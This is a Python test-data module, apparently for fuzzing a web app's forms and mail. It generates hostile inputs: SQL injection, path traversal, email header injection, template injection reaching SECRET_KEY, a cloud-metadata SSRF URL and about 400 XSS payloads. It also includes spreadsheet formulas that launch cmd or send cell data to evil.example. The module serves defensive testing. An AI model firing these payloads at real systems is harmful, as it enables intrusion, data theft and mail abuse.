"""What nobody means well who types it: strings for every field, payloads that would run in a page, and formulas.

Each string is bytes, as some are no text at all. `MARK` tells an echo: it stands right behind what pages must escape.
"""

import random
from collections.abc import Callable, Iterator
from itertools import cycle, islice

MARK = "zq7"
INJECTED = "X-Injected"
ECHOES = [b"<zq7", b"<img zq7", b"<a zq7", b'"zq7 on', b"'zq7 on"]  # none stands in a page of ours

CONTROL = [chr(code) for code in [*range(0x20), *range(0x7F, 0xA0)]]
INVISIBLE = list(
    "\u00ad\u034f\u061c\u115f\u180e\u200b\u200c\u200d\u200e\u200f\u202a\u202e\u2060\u2066\u2069\u2800\u3164\ufeff"
)
ODD = list(
    "\u0130\u0131\u017f\u1e9e\ufb03\u2028\u2029\ufdfa\ufffd\uffff\U0001f468\U000e0041\U0010ffff\ud800\udfff\u05d3\u0645"
)
CLASSIC = [
    "",
    " ",
    "0",
    "-1",
    "NaN",
    "null",
    "undefined",
    "None",
    "true",
    "999999999999999999999999",
    "1e309",
    "0x10",
    "١٢٣",
    "²",
    "' OR '1'='1",
    "'; DROP TABLE campaigns_letter; --",
    '" UNION SELECT password FROM cms_user --',
    "\\'; SELECT pg_sleep(9); --",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "file:///etc/passwd",
    "C:\\Windows\\system32",
    "%00",
    "%0d%0aX-Injected: zq7",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% debug %}",
    "{{ supporter_name }}",
    "{{ 7|add:7 }}${7*7}#{7*7}<%= 7*7 %>",
    "%s%s%s%n%x",
    "%(first_name)s %(",
    "{0.__class__.__mro__}{",
    "{!r:>1000000}",
    "jane@example.org\r\nBcc: victim@example.org",
    "Jane\r\nX-Injected: zq7\r\n\r\n<script>zq7</script>",
    "\nBcc: victim@example.org",
    "=?utf-8?q?victim=40example=2Eorg=0D=0ABcc=3A?=",
    "=?utf-8?b?DQpCY2M6IHZpY3RpbUBleGFtcGxlLm9yZw==?=",
    "=?utf-8?q?" + "=C3=A9" * 50 + "?=",
    "--boundary\r\nContent-Type: text/html\r\n\r\n<script>zq7</script>\r\n--boundary--",
    "\r\n.\r\nMAIL FROM:<victim@example.org>",
    "Content-Type: multipart/mixed; boundary=x",
    '"Jane" <victim@example.org>, "Doe"',
    "a@b@c@example.org",
    '"very unusual\\"@"@example.org',
    "jane@[127.0.0.1]",
    "jane@example.org\x00",
    "jane@" + "a" * 64 + ".example",
    "=cmd|' /C calc'!A1",
    "http://169.254.169.254/latest/meta-data",
    "mastodon.example:80@evil.example/#",
    "javascript:alert(1)",
    "xn--a",
    "K1A\u00a00A6",
    "K1A0A6" * 40,
    "<![CDATA[<zq7>]]>",
    "<!--#exec cmd='ls'--><zq7>",
    "\u202egnp.exe",
    "e" + "\u0301" * 3000,
    "ﷺ" * 2000,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 200,
    "x" * 100_000,
    "<zq7>" * 4000,
    "\u0130" * 300,
]
BROKEN = [b"\xff", b"\xc0\x80", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"Jane\xfe\xff<zq7>", b"\x80" * 50]
TAGS = [
    f"<{MARK}>",
    f'"{MARK} onfocus="alert(1)',
    f"'{MARK} onfocus='alert(1)",
    f"<img {MARK} src=x onerror=alert(1)>",
    f"</textarea><{MARK}>",
    f"</title></script><{MARK}>",
    f"<a {MARK} href=javascript:alert(1)>",
]


def hostile_strings(number: int, *, seed: int) -> list[bytes]:
    """The classic ones first, then as many others as are asked for, no two alike."""
    found = dict.fromkeys([*(text.encode("utf-8", "surrogatepass") for text in [*CLASSIC, *TAGS]), *BROKEN])
    chance = random.Random(seed)
    for make in cycle(KINDS):
        if len(found) >= number:
            break
        found[make(chance).encode("utf-8", "surrogatepass")] = None
    return list(islice(found, number))


def _mixed(chance: random.Random) -> str:
    pieces = [*CONTROL, *INVISIBLE, *ODD, *TAGS, "Jane", " ", "\r\n", "é"]
    return "".join(chance.choices(pieces, k=chance.randint(1, 12)))


def _any_text(chance: random.Random) -> str:
    return "".join(chr(chance.randrange(0x110000)) for _ in range(chance.randint(1, 20)))


def _injection(chance: random.Random) -> str:
    line = chance.choice(["\r\n", "\n", "\r", "\v", "\f", "\x1c", "\x85", "\u2028", "%0d%0a", "\\r\\n"])
    header = chance.choice(
        [f"{INJECTED}: {MARK}", "Bcc: victim@example.org", "Set-Cookie: a=b", "Location: //evil.example"]
    )
    return f"Jane{chance.randrange(10**6)}{line}{header}{line}{chance.choice(TAGS)}"


def _stretched(chance: random.Random) -> str:
    return chance.choice([*ODD, *INVISIBLE, "a", "\u0316", "<", '"', "\\", "%"]) * chance.randint(2, 3000)


def _template(chance: random.Random) -> str:
    inner = chance.choice(["supporter_name", "request", "settings.SECRET_KEY", "7|add:7", "''", "_x", "unknown"])
    left, right = chance.choice([("{{", "}}"), ("{%", "%}"), ("${", "}"), ("{", "}"), ("%(", ")s"), ("{{{", "}}}")])
    return f"{chance.randrange(10**6)}{left} {inner} {right}{chance.choice(TAGS)}"


def _encoded_word(chance: random.Random) -> str:
    charset = chance.choice(["utf-8", "us-ascii", "unknown", "utf-7", ""])
    text = "".join(f"={chance.randrange(256):02X}" for _ in range(chance.randint(0, 40)))
    return f"=?{charset}?{chance.choice('qbx')}?{text}?="


KINDS: list[Callable[[random.Random], str]] = [_mixed, _any_text, _injection, _stretched, _template, _encoded_word]


# Payloads that say `alert` where they run

CALLS = ("alert(1)", "alert`1`", "top.alert(1)", "eval('alert(1)')", "setTimeout(alert)")
SHAPES = (
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script src='data:text/javascript,{call}'></script>",
    "<img src=x onerror={call}>",
    "<img src=x onerror='{call}'//",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<body onload={call}>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src='javascript:{call}'></iframe>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}></video>",
    "<marquee onstart={call}>",
    "<object data='javascript:{call}'></object>",
    "<embed src='javascript:{call}'>",
    "<math><a xlink:href='javascript:{call}'>x</a></math>",
    "<a href='javascript:{call}'>x</a>",
    "<form action='javascript:{call}'><button autofocus onfocus={call}>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<style>@import 'javascript:{call}';</style>",
    "<template><script>{call}</script></template><img src=x onerror={call}>",
    "</title><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</script><script>{call}</script>",
    "--><script>{call}</script>",
    "]]><script>{call}</script>",
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    '" onfocus="{call}" autofocus="',
    "' onfocus='{call}' autofocus='",
    '" style="animation-name:x" onanimationstart="{call}',
    "javascript:{call}",
    "java\nscript:{call}",
    " javascript:{call}",
    "data:text/html,<script>{call}</script>",
    "';{call};//",
    '";{call};//',
    "\\';{call};//",
    "${{{call}}}",
    "`${{{call}}}`",
    "{{{{constructor.constructor('{call}')()}}}}",
    "</div><script>{call}</script><div>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<img src='x' onerror=&#97;lert(1) title='{call}'>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "%3Cscript%3E{call}%3C/script%3E",
    "<\x00script>{call}</script>",
    "<script\x0c>{call}</script\x0c>",
    "<img\x0bsrc=x\x0bonerror={call}>",
    "＜script＞{call}＜/script＞",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<svg><style><img src=x onerror={call}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<a id=x tabindex=1 onfocus={call} autofocus></a>",
    "<select autofocus onfocus={call}>",
    "<textarea autofocus onfocus={call}>",
    "<keygen autofocus onfocus={call}>",
    "<audio src=x onerror={call}>",
    "<link rel=stylesheet href=x onerror={call}>",
    "<base href='javascript:{call}//'>",
    "<isindex type=image src=1 onerror={call}>",
    "<frameset onload={call}>",
    "<table background='javascript:{call}'>",
    "<button popovertarget=x onclick={call} autofocus>x</button><div popover id=x onbeforetoggle={call}>",
    "<x onclick={call} contenteditable autofocus onfocus={call}>x</x>",
    "<div style='width:expression({call})'>",
    "[x](javascript:{call})",
    "![x](x' onerror='{call})",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{call}</script>",
    "<!--><img src=x onerror={call}>-->",
    "<title><img src=x onerror={call}></title>",
    "<img src=`x`onerror={call}>",
    "<img/src='x'/onerror='{call}'>",
    "<p hidden onbeforematch={call}>x</p>",
    "<dialog open onclose={call}><form method=dialog><button autofocus onfocus={call}>",
    "<slot onslotchange={call}><img src=x onerror={call}>",
)


def payloads() -> Iterator[str]:
    """400 of them, each shape with each call."""
    for call in CALLS:
        yield from (shape.format(call=call) for shape in SHAPES)


FORMULAS = [
    f"{blank}{sign}{formula}"
    for sign, formula in (
        ("=", "1+1"),
        ("=", "cmd|' /C calc'!A1"),
        ("=", 'HYPERLINK("https://evil.example?"&A1,"x")'),
        ("+", "1+1"),
        ("-", "1+1"),
        ("-", "2+3+cmd|' /C calc'!A0"),
        ("@", "SUM(1,1)"),
        ("=", 'WEBSERVICE("https://evil.example")'),
        ("=", 'IMPORTXML("https://evil.example","//a")'),
        ("=", 'DDE("cmd";"/C calc";"x")'),
    )
    for blank in ("", " ", "\t", "\u00a0")
]
